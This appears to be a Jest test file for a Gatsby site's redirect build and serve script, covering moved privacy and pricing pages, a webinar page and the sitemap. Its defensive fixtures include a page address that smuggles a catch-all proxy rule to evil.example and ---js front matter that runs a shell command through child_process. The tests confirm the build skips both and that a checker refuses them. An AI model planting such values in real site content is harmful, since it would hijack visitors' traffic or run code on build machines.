/** @jest-environment node */
// Addresses that never break, built from a real repository: the privacy policy (with two earlier
// versions) moves to /privacy and its PDF to /legal/privacy.pdf, /pricing becomes /plans with its
// file renamed, each by an edit and a commit, and a writer sends /demo on to the booking page.
import { execFileSync, spawn, spawnSync } from "node:child_process"
import fs from "node:fs"
import path from "node:path"
import { parsePlain } from "netlify-redirector"
import { gatsbyBuild, stopBuilds } from "../../test/site-copy"
import { git } from "../../test/git-repo"
import { POLICY, siteWithLegalHistory } from "../../test/legal-history"
import { temporaryFolders } from "../../test/temporary-folders"
import { redirectLineProblems } from "../../../scripts/redirect-rules.mjs"
import { validateContentDir } from "../../site/content-check"

afterAll(stopBuilds)
const folder = temporaryFolders(afterAll)
const site = siteWithLegalHistory(folder("site-"))
const file = (name: string) => path.join(site, name)
const edit = (name: string, change: (text: string) => string) => fs.writeFileSync(file(name), change(fs.readFileSync(file(name), "utf8")))

// A phished writer's account: an address that would add rules of its own to _redirects, and a
// front matter that would run a command, each committed and reverted. The history keeps them.
const ran = file("hostile-code-ran")
const TERMS = "content/legal/terms-of-service.md"
const WEBINAR = "content/pages/webinar.md"
function commitHostileHistory() {
  edit("content/pages/about.md", (text) => text.replace(/^path: .*$/m, 'path: "/x /about 301\\n/* https://evil.example/:splat 200!\\n/y"'))
  git(site, "commit", "--quiet", "--all", "--message", "About: a new address")
  git(site, "revert", "--quiet", "--no-edit", "HEAD")
  fs.writeFileSync(file(TERMS), `---js\n{ title: require("child_process").execSync("touch ${ran}").toString() || "Terms", path: "/terms" }\n---\n\nText\n`)
  git(site, "commit", "--quiet", "--all", "--message", "Terms: a new title")
  git(site, "revert", "--quiet", "--no-edit", "HEAD")
}

// npm run serve on the build, once it says it listens on `port`, and a GET that follows no redirect.
async function serveBuilt(port: number) {
  const server = spawn("node", [file("scripts/serve.mjs")], { cwd: site, env: { ...process.env, PUBLIC_DIR: file("public"), SERVE_PORT: String(port) } })
  await new Promise((resolve, reject) => {
    server.stdout.once("data", resolve)
    server.once("exit", (code) => reject(new Error(`serve exited with ${code}`)))
  })
  return { server, get: (address: string) => fetch(`http://localhost:${port}${address}`, { redirect: "manual" }) }
}

const built = (async () => {
  commitHostileHistory()
  edit(POLICY, (text) => text.replace("path: /privacy-policy", "path: /privacy").replace("pdf: /legal/privacy-policy.pdf", "pdf: /legal/privacy.pdf"))
  git(site, "mv", "content/pages/pricing.md", "content/pages/plans.md")
  edit("content/pages/plans.md", (text) => text.replace("path: /pricing", "path: /plans"))
  git(site, "commit", "--quiet", "--all", "--message", "The privacy policy at /privacy, pricing at /plans")
  edit("content/site.json", (text) =>
    text.replace(/\n}\s*$/, ',\n  "redirects": [{ "from": "/demo", "to": "https://schedule.veridraft.example.com/demo" }]\n}\n'),
  )
  // A webinar's page moved to a dated address, then came down after its last day.
  fs.writeFileSync(
    file(WEBINAR),
    "---\ntitle: Webinar\ndescription: Records review, live.\npath: /webinar\nsections:\n  - type: text\n    body: Join us.\n---\n",
  )
  git(site, "add", WEBINAR)
  git(site, "commit", "--quiet", "--message", "A webinar's page")
  edit(WEBINAR, (text) => text.replace("path: /webinar", "path: /webinar-2026"))
  git(site, "commit", "--quiet", "--all", "--message", "The webinar's page at its year's address")
  edit(WEBINAR, (text) => text.replace("path: /webinar-2026", "path: /webinar-2026\nuntil: 2026-01-31\nthen: /about"))
  git(site, "commit", "--quiet", "--all", "--message", "The webinar's page comes down after January")
  const { status, output } = await gatsbyBuild(site)
  if (status !== 0) throw new Error(`gatsby build exited with ${status}:\n${output}`)
  const redirects = fs.readFileSync(file("public/_redirects"), "utf8")
  const matcher = await parsePlain(redirects, {})
  // Where Netlify's own matcher sends an address no file has.
  const location = (address: string) => {
    const match = matcher.match({ scheme: "https", host: "www.veridraft.example.com", path: address, query: "", getHeader: () => "", getCookie: () => "" })
    return match && "to" in match ? `${match.status} ${match.to}` : undefined
  }
  return { output, redirects, location }
})()

test("the moved policy's page, PDF, earlier versions, comparisons and their PDFs all redirect for good to their new addresses, which are built", async () => {
  const { location } = await built
  const moved = {
    "/privacy-policy": "/privacy",
    "/privacy-policy/": "/privacy",
    "/legal/privacy-policy.pdf": "/legal/privacy.pdf",
    "/privacy-policy/2026-09-01": "/privacy/2026-09-01",
    "/privacy-policy/2026-10-01/changes": "/privacy/2026-10-01/changes",
    "/legal/privacy-policy-2026-09-01.pdf": "/legal/privacy-2026-09-01.pdf",
    "/legal/privacy-policy-2026-10-01-changes.pdf": "/legal/privacy-2026-10-01-changes.pdf",
  }
  for (const [from, to] of Object.entries(moved)) {
    expect([from, location(from)]).toEqual([from, `301 ${to}`])
    expect(fs.existsSync(file(`public${to}`)) || fs.existsSync(file(`public${to}/index.html`))).toBe(true)
    expect(fs.existsSync(file(`public${from.replace(/\/$/, "")}`)) || fs.existsSync(file(`public${from}/index.html`))).toBe(false)
  }
}, 240_000)

test("a page whose file and address changed redirects from its old address; a writer's redirect goes to another site; live pages are not redirected", async () => {
  const { location, redirects } = await built
  expect(location("/pricing")).toBe("301 /plans")
  expect(location("/demo")).toBe("301 https://schedule.veridraft.example.com/demo")
  // A page that moved, then came down: its former address leads where its last one does.
  expect([location("/webinar-2026"), location("/webinar")]).toEqual(["301 /about", "301 /about"])
  for (const live of ["/", "/about", "/plans", "/privacy", "/terms-of-service", "/case-studies"]) expect(redirects).not.toMatch(new RegExp(`^${live} `, "m"))
}, 240_000)

test("the build's _redirects is what Netlify's parser reads without an error, and npm run serve answers it", async () => {
  await built
  const check = execFileSync("node", [path.join(site, "scripts", "serve.mjs"), "--check"], {
    cwd: site,
    env: { ...process.env, PUBLIC_DIR: file("public") },
    encoding: "utf8",
  })
  expect(check).toMatch(/; (\d+) redirects Netlify reads/)
  expect(Number(/(\d+) redirects Netlify reads/.exec(check)![1])).toBeGreaterThanOrEqual(6)
}, 240_000)

test("the moved pages' links still pass the check, through their redirects, and the sitemap lists only the new addresses", async () => {
  const { output } = await built
  expect(output).toMatch(/Redirects: \d+ \(\d+ from former addresses, 1 made in content\/site.json\)/)
  const sitemap = fs.readFileSync(file("public/sitemap-0.xml"), "utf8")
  expect(sitemap).toContain("/privacy</loc>")
  expect(sitemap).toContain("/plans</loc>")
  expect(sitemap).not.toMatch(/\/privacy-policy<\/loc>|\/pricing<\/loc>/)
}, 240_000)

test("npm run serve answers as Netlify does: 301 with the new address for a moved page, its headers, 200 there, 404 for the rest", async () => {
  await built
  const { server, get } = await serveBuilt(9388)
  try {
    const moved = await get("/pricing/")
    expect([moved.status, moved.headers.get("location")]).toEqual([301, "/plans"])
    expect(moved.headers.get("x-content-type-options")).toBe("nosniff")
    expect((await get("/legal/privacy-policy.pdf")).headers.get("location")).toBe("/legal/privacy.pdf")
    expect((await get("/plans")).status).toBe(200)
    expect((await get("/no-such-page")).status).toBe(404)
  } finally {
    server.kill()
  }
}, 240_000)

test("a hostile history runs nothing and publishes only well-formed rules: its address and its ---js text are skipped, each named with its commit", async () => {
  const { output, redirects } = await built
  expect(fs.existsSync(ran)).toBe(false)
  expect(redirects).not.toMatch(/evil|200|!|\/x |\/y /)
  expect(redirectLineProblems(redirects)).toEqual([])
  expect(output).toMatch(
    /An earlier address is not redirected, as its text does not read under today's content rules: content\/pages\/about\.md: Page address: expected a page address like "\/pricing".* \(in commit [0-9a-f]{7}\)/,
  )
  expect(output).toMatch(/content\/legal\/terms-of-service\.md: line 1: front matter marked "---js" is never read .*\(in commit [0-9a-f]{7}\)/)
}, 240_000)

test("npm run serve fails safe: a malformed address gets 400 and the next is served, its rule files and links out of public/ are not served, and a redirect keeps the query", async () => {
  await built
  fs.symlinkSync("/etc/hostname", file("public/hostname.txt"))
  const { server, get } = await serveBuilt(9389)
  try {
    expect((await get("/%E0%A4%A")).status).toBe(400)
    expect((await get("/about")).status).toBe(200)
    for (const hidden of ["/_redirects", "/_headers", "/hostname.txt"]) expect([hidden, (await get(hidden)).status]).toEqual([hidden, 404])
    const moved = await get("/pricing?utm_source=newsletter&utm_medium=email")
    expect([moved.status, moved.headers.get("location")]).toEqual([301, "/plans?utm_source=newsletter&utm_medium=email"])
  } finally {
    server.kill()
    fs.rmSync(file("public/hostname.txt"))
  }
}, 240_000)

test("a writer's redirect can take no address a request names in the build: every file it writes and every page's route is refused as a From", async () => {
  await built
  const publicDir = file("public")
  const files = fs
    .readdirSync(publicDir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => `/${path.relative(publicDir, path.join(entry.parentPath, entry.name)).split(path.sep).join("/")}`)
  const routes = files.filter((name) => name.endsWith(".html")).map((name) => name.replace(/(\/index)?\.html$/, "") || "/")
  const answered = [...new Set([...files, ...routes])]
  const copy = folder("redirects-from-")
  for (const dir of ["content", "static"]) fs.cpSync(file(dir), path.join(copy, dir), { recursive: true })
  const siteFile = path.join(copy, "content", "site.json")
  const settings = JSON.parse(fs.readFileSync(siteFile, "utf8"))
  fs.writeFileSync(siteFile, JSON.stringify({ ...settings, redirects: answered.map((from) => ({ from, to: "/" })) }))
  const refused = new Set(
    validateContentDir(path.join(copy, "content"))
      .map(({ field }) => /^Redirect (\d+): From$/.exec(field)?.[1])
      .flatMap((place) => (place === undefined ? [] : [answered[Number(place) - 1]])),
  )
  expect(answered.length).toBeGreaterThan(50)
  expect(answered.filter((from) => !refused.has(from))).toEqual([])
}, 240_000)

test("serve.mjs --check refuses a _redirects line the build never writes", async () => {
  await built
  const publicDir = folder("hostile-public-")
  fs.writeFileSync(path.join(publicDir, "_redirects"), "/x /about 301\n/* https://evil.example/:splat 200!\n")
  const check = spawnSync("node", [file("scripts/serve.mjs"), "--check"], { cwd: site, env: { ...process.env, PUBLIC_DIR: publicDir }, encoding: "utf8" })
  expect(check.status).toBe(1)
  expect(check.stderr).toContain('line 2: "/* https://evil.example/:splat 200!" (expected "/from /to 301" or "/from https://… 301")')
}, 240_000)
